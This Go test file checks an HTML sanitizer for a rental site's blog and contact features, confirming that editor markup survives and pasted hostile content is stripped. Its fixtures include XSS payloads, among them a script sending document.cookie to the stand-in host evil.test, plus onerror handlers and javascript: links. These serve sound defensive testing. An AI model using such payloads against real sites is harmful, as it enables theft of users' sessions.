package htmlsanitize_test

import (
	"strings"
	"testing"

	"github.com/bigkoko/kokoadmin/internal/app/system/htmlsanitize"
)

// Blog bodies come from the rich editor; everything it can produce must
// survive, and anything an author pastes in from elsewhere must not run.
func TestSanitize_BlogBody(t *testing.T) {
	tests := []struct {
		name    string
		in      string
		keep    []string
		dropped []string
	}{
		{
			name: "editor formatting",
			in:   `<h2>Weekend rentals</h2><p class="ql-align-center"><strong>Drills</strong>, <u>ladders</u> and <s>vans</s></p>`,
			keep: []string{"<h2>", `class="ql-align-center"`, "<strong>", "<u>", "<s>"},
		},
		{
			name: "pricing table",
			in:   `<table class="rates"><tr><th colspan="2">Daily rates</th></tr><tr><td>Tent</td><td>$12</td></tr></table>`,
			keep: []string{"<table", `colspan="2"`, "<td>Tent</td>"},
		},
		{
			name: "listing photo",
			in:   `<figure><img src="https://cdn.bigkoko.com/blogs/tent.jpg" alt="Tent"><figcaption>Four-person tent</figcaption></figure>`,
			keep: []string{`src="https://cdn.bigkoko.com/blogs/tent.jpg"`, `alt="Tent"`, "<figcaption>"},
		},
		{
			name:    "external link gets nofollow",
			in:      `<a href="https://bigkoko.com/products/tent">Rent it</a>`,
			keep:    []string{`href="https://bigkoko.com/products/tent"`, "nofollow"},
			dropped: []string{"javascript:"},
		},
		{
			name:    "pasted script",
			in:      `<p>Spring sale</p><script>document.location='https://evil.test/?c='+document.cookie</script>`,
			keep:    []string{"<p>Spring sale</p>"},
			dropped: []string{"<script", "document.cookie"},
		},
		{
			name:    "event handlers",
			in:      `<img src="https://cdn.bigkoko.com/x.png" onerror="alert(1)"><p onclick="steal()">Hi</p>`,
			dropped: []string{"onerror", "onclick"},
		},
		{
			name:    "javascript link",
			in:      `<a href="javascript:alert('owned')">Claim voucher</a>`,
			dropped: []string{"javascript:"},
		},
		{
			name:    "data url image",
			in:      `<img src="data:text/html,<script>alert(1)</script>">`,
			dropped: []string{"data:text/html"},
		},
		{
			name:    "embedded frames and forms",
			in:      `<iframe src="https://evil.test"></iframe><form action="/login"><input name="password"></form>`,
			dropped: []string{"<iframe", "<form", "<input"},
		},
		{
			name:    "inline style block",
			in:      `<style>body{display:none}</style><p>Visible</p>`,
			keep:    []string{"<p>Visible</p>"},
			dropped: []string{"<style", "display:none"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := htmlsanitize.Sanitize(tt.in)
			for _, s := range tt.keep {
				if !strings.Contains(got, s) {
					t.Errorf("missing %q in %q", s, got)
				}
			}
			for _, s := range tt.dropped {
				if strings.Contains(got, s) {
					t.Errorf("kept %q in %q", s, got)
				}
			}
		})
	}
}

func TestSanitize_Unchanged(t *testing.T) {
	for _, in := range []string{
		"",
		"New listings every Friday",
		"<p><strong>Bold</strong> and <em>italic</em></p>",
		`<p class="ql-align-center">Centered</p>`,
	} {
		if got := htmlsanitize.Sanitize(in); got != in {
			t.Errorf("Sanitize(%q) = %q", in, got)
		}
	}
}

func TestSanitizeToHTML(t *testing.T) {
	got := string(htmlsanitize.SanitizeToHTML(`<p>Hello</p><script>alert('xss')</script>`))
	if got != "<p>Hello</p>" {
		t.Errorf("SanitizeToHTML = %q", got)
	}
}

// Contact replies are stored as plain text by the backend.
func TestStripTags_ContactReply(t *testing.T) {
	tests := []struct {
		in, want string
	}{
		{"", ""},
		{"<b>Hi</b> there &amp; thanks", "Hi there & thanks"},
		{"<script>alert(1)</script>Thanks for reaching out", "Thanks for reaching out"},
		{"  Your refund is on its way.  ", "Your refund is on its way."},
	}
	for _, tt := range tests {
		if got := htmlsanitize.StripTags(tt.in); got != tt.want {
			t.Errorf("StripTags(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestIsPlainText(t *testing.T) {
	tests := map[string]bool{
		"":                             true,
		"Order #1042 shipped":          true,
		"Price > deposit":              true,
		"a < b":                        true,
		"<p>Order #1042 shipped</p>":   false,
		"Tap <strong>Approve</strong>": false,
	}
	for in, want := range tests {
		if got := htmlsanitize.IsPlainText(in); got != want {
			t.Errorf("IsPlainText(%q) = %v, want %v", in, got, want)
		}
	}
}

func TestPlainTextToHTML(t *testing.T) {
	tests := []struct {
		in, want string
	}{
		{"", ""},
		{"Thanks for renting", "<p>Thanks for renting</p>"},
		{"Pickup at 9\r\nReturn by 5", "<p>Pickup at 9<br>Return by 5</p>"},
		{"Tools & <gear>", "<p>Tools &amp; &lt;gear&gt;</p>"},
	}
	for _, tt := range tests {
		if got := htmlsanitize.PlainTextToHTML(tt.in); got != tt.want {
			t.Errorf("PlainTextToHTML(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestPrepareForDisplay(t *testing.T) {
	if got := htmlsanitize.PrepareForDisplay(""); got != "" {
		t.Errorf("empty: %q", got)
	}
	if got := string(htmlsanitize.PrepareForDisplay("Hello\nAda")); got != "<p>Hello<br>Ada</p>" {
		t.Errorf("plain: %q", got)
	}
	got := string(htmlsanitize.PrepareForDisplay(`<p>Welcome</p><img src="x" onerror="alert(1)">`))
	if !strings.Contains(got, "<p>Welcome</p>") || strings.Contains(got, "onerror") {
		t.Errorf("html: %q", got)
	}
}

func TestExcerpt(t *testing.T) {
	if got := htmlsanitize.Excerpt("<p>Rent   a drill</p><p>today</p>", 50); got != "Rent a drilltoday" && got != "Rent a drill today" {
		t.Errorf("unexpected excerpt %q", got)
	}
	if got := htmlsanitize.Excerpt("abcdefghij", 4); got != "abcd…" {
		t.Errorf("truncated excerpt: %q", got)
	}
}
